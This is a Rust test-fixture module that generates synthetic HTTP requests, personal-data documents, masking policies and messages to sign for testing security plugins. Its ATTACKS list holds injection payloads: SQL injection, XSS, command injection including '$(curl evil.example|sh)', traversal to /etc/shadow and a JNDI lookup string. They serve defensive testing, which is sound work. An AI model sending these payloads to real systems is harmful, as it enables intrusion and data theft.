//! Generated traffic for every bundled plugin: requests as browsers, programs and attackers send them, documents with
//! personal data in them, messages to sign.

use portcullis_tests::XorShift;
use serde_json::{Map, Value, json};

const BENIGN: &[&str] = &[
    "blue suede shoes",
    "O'Brien & Sons",
    "select a size",
    "1 < 2",
    "drop me a line",
    "grün, größer",
    "",
    "10% off",
    "see readme.txt",
];
const ATTACKS: &[&str] = &[
    "' or 1=1 --",
    "1 UNION SELECT password FROM users",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "; cat /etc/passwd",
    "$(curl evil.example|sh)",
    "../../../../etc/shadow",
    "%2527%2520or%25201%253D1",
    "${jndi:ldap://192.0.2.1/a}",
];
const AGENTS: &[&str] = &[
    "curl/8.5.0",
    "python-requests/2.31",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11) AppleWebKit/537.36 HeadlessChrome/130.0.0.0 Safari/537.36",
    "Googlebot/2.1",
    "something else",
];
const HEADERS: &[(&str, &str)] = &[
    ("accept", "*/*"),
    ("accept", "text/html,application/xhtml+xml"),
    ("accept-language", "en-GB,en;q=0.7"),
    ("accept-encoding", "gzip, br"),
    ("sec-ch-ua", "\"Chromium\";v=\"130\", \"Google Chrome\";v=\"130\""),
    ("sec-ch-ua", "\"Chromium\";v=\"99\""),
    ("sec-fetch-site", "none"),
    ("referer", "https://shop.example/?q=1"),
    ("cookie", "session=not-for-plugins"),
    ("authorization", "Bearer not-for-plugins"),
];
const PERSONAL: &[&str] = &[
    "ann@example.org",
    "4111 1111 1111 1111",
    "DE89 3704 0044 0532 0130 00",
    "+49 30 901820",
    "call 030 901820 or mail bob@example.com",
    "192.0.2.17",
    "2001:db8:85a3::8a2e:370:7334",
    "078-05-1120",
    "Ann of Green Gables",
    "nothing personal",
    "",
    "***",
];
/// The members of generated documents that obligations can name.
const MEMBERS: &[&str] = &["email", "card", "name", "contact", "notes", "ids"];

fn text(rng: &mut XorShift, is_hostile: bool) -> String {
    let texts = if is_hostile && rng.one_in(3) { ATTACKS } else { BENIGN };
    format!("{}{}", rng.pick(texts), if rng.one_in(2) { rng.below(1_000).to_string() } else { String::new() })
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// An application's own request, as `http` of a question; an attack once in three times.
pub(super) fn request(rng: &mut XorShift) -> Value {
    let is_hostile = rng.one_in(3);
    let mut headers = vec![json!(["user-agent", rng.pick(AGENTS)])];
    for _ in 0..rng.below(6) {
        let (name, value) = rng.pick(HEADERS);
        if headers.iter().all(|header| header[0] != *name) {
            headers.push(json!([name, value]));
        }
    }
    let method = *rng.pick(&["GET", "POST", "PUT"]);
    let (path, address) = (format!("/items/{}", rng.below(50)), format!("192.0.2.{}", rng.below(3)));
    let mut request = json!({"method": method, "path": path, "headers": headers, "address": address});
    let pairs: Vec<String> =
        (0..rng.below(4)).map(|place| format!("q{place}={}", encoded(&text(rng, is_hostile)))).collect();
    request["query"] = json!(pairs.join("&"));
    if method != "GET" {
        request["body"] = json!({
            "text": text(rng, is_hostile),
            "lines": (0..rng.below(12)).map(|_| json!({"n": rng.below(100), "note": text(rng, is_hostile)})).collect::<Vec<_>>()
        });
    }
    request
}

/// A policy for each of `count` actions `show-0` …, with obligations of its own to mask.
pub(super) fn masking(rng: &mut XorShift, count: usize) -> String {
    let mut policies = String::new();
    for action in 0..count {
        let mut obligations = Vec::new();
        for member in MEMBERS {
            if rng.one_in(3) {
                obligations
                    .push(format!("mask:/{member}{}", rng.pick(&["", ":redact", ":hash", ":partial"])));
            }
        }
        let obligation = match obligations.join(",") {
            none if none.is_empty() => String::new(),
            some => format!("@obligation(\"{some}\")\n"),
        };
        policies.push_str(&format!(
            "@id(\"show-{action}\")\n{obligation}permit(principal, action == Action::\"show-{action}\", resource);\n\n"
        ));
    }
    policies
}

/// A document with personal data in some of its places.
pub(super) fn document(rng: &mut XorShift) -> Value {
    let mut members = Map::new();
    for member in MEMBERS.iter().chain(&["free", "other"]) {
        if rng.one_in(4) {
            continue;
        }
        let value = match rng.below(6) {
            0 => json!(rng.below(100_000)),
            1 => json!((0..rng.below(5)).map(|_| rng.pick(PERSONAL)).collect::<Vec<_>>()),
            2 => json!({"inner": {"text": rng.pick(PERSONAL), "flag": rng.one_in(2)}, "null": null}),
            3 => json!(4_111_111_111_111_111_u64),
            _ => json!(format!("{} {}", rng.pick(PERSONAL), rng.pick(PERSONAL))),
        };
        members.insert((*member).to_owned(), value);
    }
    Value::Object(members)
}

/// A message to sign: bytes, or a request.
pub(super) fn message(rng: &mut XorShift) -> Value {
    if rng.one_in(3) {
        return json!({"bytes_base64": rng.pick(&["", "aGVsbG8=", "eyJ0eXBlIjoib3JkZXIucGFpZCJ9", "AAECAwQ="])});
    }
    let body: String = (0..rng.below(2_000)).map(|_| *rng.pick(&['a', 'ß', '"', '\n', '7'])).collect();
    json!({
        "method": rng.pick(&["GET", "POST", "DELETE"]),
        "target_uri": format!("https://partner.example/orders/{}?x={}", rng.below(1_000), rng.below(10)),
        "headers": {"content-type": "application/json", "x-number": rng.below(1_000).to_string()},
        "body_text": body
    })
}
